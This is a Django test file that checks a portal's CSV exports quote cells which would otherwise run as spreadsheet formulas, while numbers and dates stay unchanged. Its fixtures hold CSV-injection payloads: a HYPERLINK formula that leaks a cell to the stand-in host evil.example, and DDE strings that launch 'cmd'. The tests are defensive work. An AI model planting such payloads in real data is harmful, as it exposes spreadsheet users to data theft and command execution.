"""CSV exports: text that a spreadsheet would run as a formula goes out inert (OWASP's
"CSV injection" advice: a leading ``'`` on cells starting with = + - @ tab or CR), while
the numbers and dates the portal writes itself stay numbers and dates."""

import csv
import io
from datetime import date
from decimal import Decimal

from django.test import SimpleTestCase, TestCase
from django.urls import reverse

from partnerships.models import Partnership
from portal.views import csv_cell
from tests.factories import OrganizationFactory, make_agreement
from tests.people import People

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def export(client, url_name: str) -> list[list[str]]:
    response = client.get(reverse(url_name), {"export": "csv"})
    assert response.status_code == 200, response.status_code
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def column(rows: list[list[str]], header: str) -> list[str]:
    index = rows[0].index(header)
    return [row[index] for row in rows[1:]]


class TestFormulasAreExportedAsText(People, TestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        cls.rogue = OrganizationFactory(name=FORMULA)
        cls.partnership = Partnership.objects.create(
            name="@SUM(1+1)*cmd|' /C calc'!A0", kind="industry_college", lead=cls.rogue
        )
        cls.agreement = make_agreement(cls.college, cls.rogue, title=FORMULA)
        cls.agreement.partnership = cls.partnership
        cls.agreement.save()
        cls.agreement.clauses.update(text="+1+cmd|' /C calc'!A0")

    def setUp(self):
        self.client.force_login(self.olivia)  # government: every record is in its lists

    def test_an_organization_named_like_a_formula_is_quoted_in_the_organization_export(self):
        names = column(export(self.client, "organization-list"), "name")
        self.assertIn("'" + FORMULA, names)
        self.assertNotIn(FORMULA, names)

    def test_an_agreement_titled_like_a_formula_is_quoted_in_the_agreement_export(self):
        rows = export(self.client, "agreement-list")
        self.assertEqual(column(rows, "title"), ["'" + FORMULA])
        # A related record's name (written through its __str__) is user text as well.
        self.assertEqual(column(rows, "partnership"), ["'@SUM(1+1)*cmd|' /C calc'!A0"])
        self.assertTrue(column(rows, "parties")[0].startswith("Riverside College; "))

    def test_partnership_and_clause_exports_quote_names_and_texts(self):
        rows = export(self.client, "partnership-list")
        self.assertIn("'@SUM(1+1)*cmd|' /C calc'!A0", column(rows, "name"))
        self.assertIn("'" + FORMULA, column(rows, "lead"))
        texts = column(export(self.client, "clause-list"), "text")
        self.assertEqual(set(texts), {"'+1+cmd|' /C calc'!A0"})

    def test_counts_and_dates_written_by_the_portal_are_untouched(self):
        rows = export(self.client, "partnership-list")
        row = rows[column(rows, "name").index("'@SUM(1+1)*cmd|' /C calc'!A0") + 1]
        self.assertEqual(row[rows[0].index("members")], "0")
        self.assertEqual(row[rows[0].index("agreements")], "1")


class TestCsvCell(SimpleTestCase):
    def test_text_starting_with_a_formula_character_gets_a_leading_quote(self):
        for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tcmd", "\rcmd", "-5"):
            with self.subTest(text=text):
                self.assertEqual(csv_cell(text), "'" + text)

    def test_ordinary_text_is_unchanged(self):
        for text in ("Riverside College", "1+1=2", "a-b", "", "'quoted", "河畔职业学院"):
            with self.subTest(text=text):
                self.assertEqual(csv_cell(text), text)

    def test_numbers_and_dates_stay_numbers_and_dates(self):
        self.assertEqual(csv_cell(Decimal("-5")), "-5")
        self.assertEqual(csv_cell(Decimal("-1234.50")), "-1234.50")
        self.assertEqual(csv_cell(-3), "-3")
        self.assertEqual(csv_cell(True), "True")
        self.assertEqual(csv_cell(date(2026, 3, 1)), "2026-03-01")
        self.assertEqual(csv_cell(None), "")
